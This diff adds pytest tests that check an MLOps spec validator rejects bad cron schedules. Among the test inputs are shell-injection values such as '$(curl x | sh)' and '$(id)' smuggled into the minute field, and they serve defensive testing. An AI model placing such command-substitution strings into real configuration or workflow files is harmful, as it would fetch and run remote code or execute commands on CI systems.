@@ -11,6 +11,8 @@ from pathlib import Path
 
 import pytest
 
+from mlopsgen.spec.cron import cron_problem
+from mlopsgen.spec.schema import load_schema
 from tests.repo_paths import ROOT, CliResult
 
 LINE = re.compile(r"^(?P<file>[^:]+):(?P<line>\d+):(?P<col>\d+): (?P<rest>.+)$")
@@ -206,3 +208,88 @@ def test_hostile_input_is_bounded(tmp_path: Path, kind: str) -> None:
     assert not (tmp_path / "out").exists()
     expected = "a spec may be at most" if kind == "huge-file" else "alias bomb"
     assert expected in proc.stderr
+
+
+# Cron fields: the five POSIX fields every CI platform takes, values in range. Before croniter
+# checked them, any five tokens reached the monitoring workflows (GitHub refuses "99 99 * * *";
+# a command substitution in the minute field landed in the generated YAML).
+CRON_CASES: list[tuple[str, str, str, str]] = [
+    (
+        "out-of-range",
+        "monitoring:\n  drift: {schedule: '99 99 * * *'}\n",
+        "monitoring.drift.schedule: '99 99 * * *': the minute field '99' is out of range",
+        "minute values are 0-59",
+    ),
+    (
+        "shell-in-fields",
+        "monitoring:\n  drift: {schedule: '$(curl x | sh) a b c d'}\n",
+        "monitoring.drift.schedule: '$(curl x | sh) a b c d' has 8 field(s)",
+        "five fields: minute hour day-of-month month day-of-week",
+    ),
+    (
+        "shell-as-five-tokens",
+        "deploy:\n  batch: {schedule: '$(id) a b c d'}\n",
+        "deploy.batch.schedule: '$(id) a b c d': the minute field '$(id)' is not cron syntax",
+        "use numbers (0-59)",
+    ),
+    (
+        "seconds-field",
+        "deploy:\n  batch: {schedule: '0 0 3 * * *'}\n",
+        "deploy.batch.schedule: '0 0 3 * * *' has 6 field(s) (a seconds field?)",
+        "five fields",
+    ),
+    (
+        "reboot",
+        "monitoring:\n  drift: {schedule: '@reboot'}\n",
+        "cron macros (@reboot) are not accepted",
+        "five fields",
+    ),
+    (
+        "quartz-last-day",
+        "monitoring:\n  drift: {schedule: '0 3 L * *'}\n",
+        "the day-of-month field 'L' is not cron syntax",
+        "use numbers (1-31)",
+    ),
+]
+
+
+@pytest.mark.parametrize(
+    ("text", "message", "hint"), [c[1:] for c in CRON_CASES], ids=[c[0] for c in CRON_CASES]
+)
+def test_bad_cron_is_a_spec_error(
+    tmp_path: Path, run_cli: Callable[..., CliResult], text: str, message: str, hint: str
+) -> None:
+    spec = tmp_path / "mlops.yaml"
+    spec.write_text(VALID_HEAD + text)
+    result = run_cli("validate", str(spec))
+    assert result.code == 2, result.err
+    assert "Traceback" not in result.err
+    lines = [ln for ln in result.err.splitlines() if LINE.match(ln)]
+    assert len(lines) == 1, result.err
+    match = LINE.match(lines[0])
+    assert match is not None
+    assert (match["line"], match["col"]) == ("5", "21"), lines[0]
+    said, _, hinted = match["rest"].partition(" (hint: ")
+    assert message in said, lines[0]
+    assert hint in hinted, lines[0]
+
+
+@pytest.mark.parametrize(
+    "cron", ["0 3 * * *", "*/15 1-5 * * *", "0 */6 1,15 JAN-JUN MON-FRI", "30 4 * * 1", "0 0 1 1 0"]
+)
+def test_good_cron_is_valid(tmp_path: Path, run_cli: Callable[..., CliResult], cron: str) -> None:
+    spec = tmp_path / "mlops.yaml"
+    spec.write_text(VALID_HEAD + f"monitoring:\n  drift: {{schedule: '{cron}'}}\n")
+    result = run_cli("validate", str(spec))
+    assert result.code == 0, result.err
+
+
+def test_cron_defaults_are_valid() -> None:
+    schema = load_schema()
+    defaults = [
+        schema["properties"]["deploy"]["properties"]["batch"]["properties"]["schedule"]["default"],
+        schema["properties"]["monitoring"]["properties"]["drift"]["properties"]["schedule"][
+            "default"
+        ],
+    ]
+    assert [cron_problem(d) for d in defaults] == [None, None]
